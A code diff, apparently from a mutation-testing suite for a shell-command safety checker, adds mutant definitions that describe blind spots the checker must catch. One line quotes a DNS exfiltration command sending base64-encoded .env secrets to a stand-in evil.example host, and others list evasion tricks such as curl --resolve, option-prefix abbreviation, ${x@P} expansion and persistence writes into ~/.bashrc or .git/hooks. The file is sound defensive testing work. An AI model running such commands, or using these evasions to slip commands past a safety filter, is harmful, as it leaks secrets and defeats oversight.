@@ -85,6 +85,16 @@ mutants! {
         "§2.1: a redirection to bash's `/dev/tcp/HOST/PORT` or `/dev/udp/…` is read as a file, not as a connection that sends data out",
     WorkspaceBlind = "workspace-blind":
         "§2.1: every file a redirection or a file-writing program writes is a reversible workspace edit, also `/etc/hosts`, `~/.bashrc` or `.git/hooks/`",
+    ExpansionCodeBlind = "expansion-code-blind":
+        "§4.4: a variable's value is data wherever it expands: `${x@P}` prompt expansion, arithmetic (`$((x))`, `((x))`) and `${!x}` indirection are not read as code",
+    ResolveBlind = "resolve-blind":
+        "§4.4: curl's `--resolve`, `--connect-to` and proxy options are ignored: the request is judged by the URL's host name, not by the address the connection goes to",
+    OptionPrefixExact = "option-prefix-exact":
+        "§4.4: a long option is recognised only by its full spelling: the unique prefixes getopt_long, git and curl accept (`--forc`, `--upload-p`, `--reso`) are read as unknown options",
+    PersistenceBlind = "persistence-blind":
+        "§2.1: what later commands run is not judged: PATH and other lookup variables given an outside directory are plain assignments, and a write into `~/.bashrc`, `~/.ssh/`, `.git/hooks/` or `.git/config` is an ordinary write to its place",
+    ProbeDataBlind = "probe-data-blind":
+        "§2.1: a name lookup or a probe only asks: a name built at run time (`dig $(cat .env | base64).evil.example`), a ping payload or names read from input are a read, not data sent to the name's owner",
 }
 
 impl fmt::Display for Mutant {
